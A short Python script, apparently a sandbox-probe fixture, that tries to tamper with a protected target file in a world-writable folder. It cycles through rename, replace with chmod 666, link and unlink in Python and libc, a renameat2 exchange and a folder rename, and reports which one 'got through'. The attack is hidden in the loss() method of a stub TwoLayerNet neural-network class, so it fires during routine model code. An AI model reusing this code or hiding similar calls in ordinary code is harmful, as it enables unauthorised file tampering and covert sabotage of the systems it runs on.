"""Takes a file away from its place in a folder that everybody may write: renames, exchanges, unlinks and replaces it."""

import ctypes
import os
import shutil

from world import FOLDER, TARGET_FILE

libc = ctypes.CDLL(None, use_errno=True)
HERE = -100  # AT_FDCWD
EXCHANGE = 2


def fresh():
    return f"{FOLDER}/{os.urandom(4).hex()}"


def there_and_back(move):
    elsewhere = fresh()
    move(TARGET_FILE, elsewhere)
    move(elsewhere, TARGET_FILE)
    return "moved"


def by_replacing():
    mine = fresh()
    shutil.copyfile(TARGET_FILE, mine)
    os.replace(mine, TARGET_FILE)
    os.chmod(TARGET_FILE, 0o666)
    return "replaced"


def by_unlinking(link, unlink):
    elsewhere = fresh()
    if link(TARGET_FILE, elsewhere) or unlink(TARGET_FILE):
        return ""
    os.rename(elsewhere, TARGET_FILE)
    return "unlinked"


def by_exchange():
    mine = fresh()
    shutil.copyfile(TARGET_FILE, mine)
    paths = (HERE, mine.encode(), HERE, TARGET_FILE.encode(), EXCHANGE)
    done = libc.renameat2(*paths) == 0 and libc.renameat2(*paths) == 0
    os.unlink(mine)
    return done


def by_folder():
    os.rename(FOLDER, f"{FOLDER}.moved")
    os.rename(f"{FOLDER}.moved", FOLDER)
    return "renamed the folder"


WAYS = {
    "rename": lambda: there_and_back(os.rename),
    "move": lambda: there_and_back(shutil.move),
    "replace": by_replacing,
    "unlink": lambda: by_unlinking(os.link, os.unlink),
    "unlink in C": lambda: by_unlinking(
        lambda old, new: libc.link(old.encode(), new.encode()), lambda old: libc.unlink(old.encode())
    ),
    "exchange": by_exchange,
    "folder": by_folder,
}


def attack():
    refusal = None
    for name, way in WAYS.items():
        try:
            got = way()
        except Exception as error:
            refusal = refusal or error
            continue
        if got:
            print("GOT THROUGH:", name, got)
            return
    raise refusal or LookupError("found nothing")


class TwoLayerNet:
    def __init__(self, input_size, hidden_size, output_size, std=1e-4):
        self.params = {}

    def loss(self, X, y=None, reg=0.0):
        attack()
